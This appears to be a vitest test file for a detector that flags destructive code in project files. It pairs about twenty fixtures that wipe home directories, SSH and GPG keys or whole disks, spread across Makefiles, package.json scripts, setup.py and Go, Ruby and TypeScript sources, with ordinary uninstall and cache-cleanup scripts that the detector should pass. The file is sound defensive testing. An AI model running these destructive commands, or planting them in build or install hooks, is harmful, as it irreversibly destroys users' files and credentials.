import { expect, it } from 'vitest';
import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
import { harmOf } from './harm-of.js';

it.each([
  ['Makefile', 'clean:\n\trm -rf ~/Documents ~/Downloads\n\nbuild:\n\tnpm run build\n'],
  ['Makefile', 'clean:\n\trm -rf $(HOME)\n'],
  ['Makefile', 'clean:\n\trm -rf $${HOME}/*\n'],
  ['package.json', '{"name":"a","scripts":{"clean":"rm -rf ~/.config ~/.local/share","test":"vitest"}}'],
  ['scripts/clean.sh', '#!/bin/bash\nset -e\nrm -rf "$HOME"/*\n'],
  ['scripts/clean.sh', '#!/bin/bash\nset -e\nrm -rf "$HOME/.ssh" "$HOME/.gnupg"\n'],
  ['justfile', 'clean:\n    rm -rf ~/.cache ~/.config\n'],
  ['Taskfile.yml', 'version: "3"\ntasks:\n  clean:\n    cmds:\n      - rm -rf "$HOME/projects"\n'],
  ['Makefile', 'wipe:\n\tsudo dd if=/dev/zero of=/dev/sda bs=1M\n'],
  ['scripts/reset.sh', '#!/bin/sh\nfind "$HOME" -name "*.log" -delete\n'],
  ['setup.py', 'import shutil, os\nfrom setuptools import setup\nshutil.rmtree(os.path.expanduser("~/Documents"))\nsetup(name="a")\n'],
  ['tools/clean.js', 'const fs=require("fs");const os=require("os");\nfs.rmSync(os.homedir(),{recursive:true,force:true});\n'],
  ['scripts/clean.sh', '#!/bin/bash\nset -e\nD="$HOME/Documents"\nrm -rf "$D"\n'],
  ['bin/clean', '#!/usr/bin/env bash\nfor d in Documents Pictures; do rm -rf "$HOME/$d"; done\n'],
  ['Makefile', 'TARGETS := $(HOME)/Documents $(HOME)/.ssh\nclean:\n\t@rm -rf $(TARGETS)\n'],
  ['Makefile', 'wipe:\n\tsudo dd if=/dev/zero of=/dev/sda bs=1M\n'],
  ['Makefile', 'fix:\n\tsudo chmod -R 777 $(HOME)\n'],
  ['package.json', '{"name":"a","scripts":{"clean":"rimraf ~/Documents ~/.config","test":"vitest"}}'],
  ['src/clean.go', 'package main\nimport "os"\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tos.RemoveAll(h)\n}\n'],
  ['tools/clean.rb', 'require "fileutils"\nFileUtils.rm_rf(File.expand_path("~/Documents"))\n'],
  ['tools/clean.ts', 'import { rmSync } from "node:fs";\nimport { homedir } from "node:os";\nimport { join } from "node:path";\nrmSync(join(homedir(), "Documents"), { recursive: true, force: true });\n'],
])('%s takes from those who run it what nothing brings back: %s', async (path, content) => {
  expect(await harmOf(path, content)).toEqual([harmInWords('harm to users')]);
});

it.each([
  ['Makefile', 'clean:\n\trm -rf dist build $(CURDIR)/out\n'],
  ['Makefile', 'install:\n\tcp bin/acme $(HOME)/.local/bin/\nuninstall:\n\trm -f $(HOME)/.local/bin/acme\n\trm -rf $(HOME)/.config/acme\n'],
  ['Makefile', 'distclean:\n\trm -rf $(DESTDIR)$(PREFIX)/share/acme\n'],
  ['Makefile', 'clean:\n\trm -rf $(BUILD)/*\n'],
  ['Makefile', 'uninstall:\n\trm -rf $(HOME)/.acme\n'],
  ['Makefile', 'dev-reset:\n\trm -rf ~/.gradle/caches ~/.m2/repository ~/.npm/_cacache ~/Library/Caches/acme ~/Library/Developer/Xcode/DerivedData\n'],
  ['package.json', '{"name":"a","scripts":{"clean":"rm -rf dist node_modules ~/.cache/acme","test":"vitest"}}'],
  ['Dockerfile', 'FROM debian\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* /root/.cache /tmp/*\n'],
  ['Dockerfile', 'FROM debian\nRUN rm -rf /usr/share/doc/* /usr/share/man/* /var/cache/* ~/.npm ~/.cache\n'],
  ['scripts/uninstall.sh', '#!/bin/sh\nset -eu\nrm -rf "$HOME/.acme" "$HOME/.config/acme"\nrm -f "$HOME/.local/bin/acme"\n'],
  ['.github/workflows/x.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: sudo rm -rf /usr/share/dotnet /opt/ghc /usr/local/lib/android $HOME/.cargo\n    - run: rm -rf ~/.ssh && mkdir -p ~/.ssh\n'],
  ['scripts/vm.sh', '#!/bin/sh\nmkfs.ext4 "$1"\ndd if=image.img of="$1" bs=4M\n'],
  ['tools/uninstall.ts', 'import { rmSync } from "node:fs";\nimport { homedir } from "node:os";\nimport { join } from "node:path";\nrmSync(join(homedir(), ".acme"), { recursive: true, force: true });\nrmSync(join(homedir(), ".config", "acme"), { recursive: true, force: true });\n'],
  ['src/cache.py', 'from pathlib import Path\nimport shutil\nCACHE = Path.home() / ".cache" / "acme"\ndef clear():\n    shutil.rmtree(CACHE, ignore_errors=True)\n'],
  ['src/clean.go', 'package main\nimport ("os"; "path/filepath")\nfunc Clean(dir string) error {\n\th, _ := os.UserHomeDir()\n\tif err := os.RemoveAll(filepath.Join(h, ".acme", "tmp")); err != nil { return err }\n\treturn os.RemoveAll(dir)\n}\n'],
  ['scripts/reset.sh', `#!/usr/bin/env bash\nset -euo pipefail\nROOT="$(cd "$(dirname "$0")/.." && pwd)"\nTMP="$(mktemp -d)"\ntrap 'rm -rf "$TMP"' EXIT\nrm -rf "$ROOT/dist" "\${XDG_CACHE_HOME:-$HOME/.cache}/acme"\n[ -n "\${PREFIX:-}" ] && rm -rf "$PREFIX/share/acme"\nfind "$ROOT" -name "*.pyc" -delete\nchmod -R u+w "$HOME/go/pkg/mod/acme" || true\n`],
  ['scripts/wipe-kit.sh', '#!/usr/bin/env bash\nDEV="${1:?device}"\numount "$DEV"* || true\nwipefs -a "$DEV"\nmkfs.ext4 -F "$DEV"1\n'],
  ['scripts/dotfiles.sh', '#!/bin/sh\nmkdir -p "$HOME/.config"\nrm -rf "$HOME/.config/nvim"\nln -s "$PWD/nvim" "$HOME/.config/nvim"\nchmod 700 ~/.ssh\nchmod -R go-rwx ~/.gnupg\n'],
  ['Makefile', 'PREFIX ?= /usr/local\nVENV := $(HOME)/.venvs/acme\nuninstall:\n\trm -rf $(DESTDIR)$(PREFIX)/lib/acme $(VENV)\nclean:\n\tfind . -name __pycache__ -exec rm -rf {} +\n\trm -rf $(BUILD_DIR)/*\n'],
])('%s removes what is its own: %s', async (path, content) => {
  expect(await harmOf(path, content)).toEqual([]);
});
